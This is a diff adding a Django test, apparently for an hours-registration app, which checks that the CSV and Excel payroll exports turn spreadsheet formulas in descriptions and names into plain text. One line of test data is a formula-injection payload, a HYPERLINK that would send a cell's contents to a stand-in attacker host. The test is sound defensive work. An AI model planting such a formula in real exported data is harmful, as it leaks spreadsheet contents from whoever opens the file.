@@ -157,3 +157,23 @@ def test_workers_fill_in_hours_on_their_own_page(cast: Cast, client, walk):
     )
     assert response.status_code == 302
     assert TimeSheet.objects.get(worker=cast.basisbaan).entries.get().minutes == 120
+
+
+def test_a_formula_in_a_description_or_name_is_text_in_both_payroll_exports(cast: Cast, client):
+    attack = '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")'
+    cast.volunteer.first_name = "@SUM(1+1)"
+    cast.volunteer.save()
+    time_entry_add(by=cast.volunteer, day=_day(), entry=Entry(kind="other", minutes=45, description=attack))
+    client.force_login(cast.coordinator)
+    month = _day().strftime("%Y-%m")
+    rows = list(csv.reader(io.StringIO(client.get(f"/uren/maand.csv?maand={month}").content.decode()), delimiter=";"))
+    line = next(row for row in rows if row[1] == cast.volunteer.username)
+    assert line[4] == "'" + attack
+    assert line[0].startswith("'@SUM")
+    assert line[5] == "0,75"  # an amount stays a number
+    book = load_workbook(io.BytesIO(client.get(f"/uren/maand.xlsx?maand={month}").content))
+    planted = [cell for sheet in book for row in sheet.iter_rows() for cell in row if str(cell.value)[:1] in "=@"]
+    assert {cell.value for cell in planted} >= {attack}
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in planted)
+    hours = next(row for row in book["Uren"].iter_rows(values_only=True) if row[1] == cast.volunteer.username)
+    assert hours[5] == 0.75
